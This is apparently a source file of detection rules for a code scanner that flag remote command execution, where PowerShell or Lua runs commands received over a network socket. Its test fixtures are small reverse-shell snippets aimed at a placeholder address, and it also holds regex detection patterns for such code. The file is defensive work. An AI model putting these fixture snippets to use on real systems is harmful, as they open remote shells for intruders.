/** RC-05: what arrives over a connection is run as a command, in PowerShell and Lua. */
import { inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row } from '../../engine/rule.ts';

/** A connection to this machine is a person's own tool. */
const local = /\(\s?["'](?:localhost|127\.0\.0\.1|::1)["']/;

export const peerCommands: readonly Row[] = [
  row('lines of a connection are run by PowerShell or cmd', {
    in: ['script', 'fence', 'decoded'],
    within: 'block',
    sign: /TcpClient|Sockets\.Socket/i,
    match: exactPattern(
      raw(
        String.raw`\b(?:powershell|pwsh|cmd)(?:\.exe)?\b[^\n]{0,60}?(?:-[cC](?:ommand)?|\/c)\s{1,3}["']?\$\w{1,30}`,
      ),
    ),
    and: [/TcpClient|Sockets\.Socket/i, /\.Read(?:Line)?\(/i],
    severity: 'critical',
    weigh: ({ region: { text }, severity }) => (local.test(text) ? null : severity),
    catches: [
      inFile(
        'a.ps1',
        "$c = [Net.Sockets.TcpClient]::new('203.0.113.9', 587)",
        '$r = [IO.StreamReader]::new($c.GetStream())',
        'while ($line = $r.ReadLine()) { powershell -Command $line }',
      ),
    ],
    spares: [
      inFile(
        'a.ps1',
        "$c = [Net.Sockets.TcpClient]::new('203.0.113.9', 443)",
        '$c.Connected',
        'cmd /c $build',
      ),
    ],
  }),
  row('what a connection brings is run by Lua', {
    in: ['script', 'fence', 'decoded'],
    within: 'block',
    sign: /:connect\(|socket/,
    match: exactPattern(raw(String.raw`\b(?:io\.popen|os\.execute|loadstring|load)\(\s?(\w{1,30})\b`)),
    and: [/:(?:read_start|receive)\(/],
    severity: 'critical',
    weigh: ({ match, region: { text }, severity }) => {
      const name = match[1] ?? '';
      const received = new RegExp(
        String.raw`read_start\(\s?function\([^)\n]{0,40}\b${name}\b|\b${name}\b[^\n=]{0,30}=\s?\w{1,20}:receive\(`,
      );
      return received.test(text) && !local.test(text) ? severity : null;
    },
    catches: [
      inFile(
        'a.lua',
        "tcp:connect('203.0.113.9', 5222, function()",
        '  tcp:read_start(function(_, part)',
        '    io.popen(part)',
        '  end)',
        'end)',
      ),
    ],
    spares: [
      inFile(
        'a.lua',
        "tcp:connect('203.0.113.9', 80, go)",
        'tcp:read_start(function(_, part) print(part) end)',
        'io.popen(editor)',
      ),
    ],
  }),
];
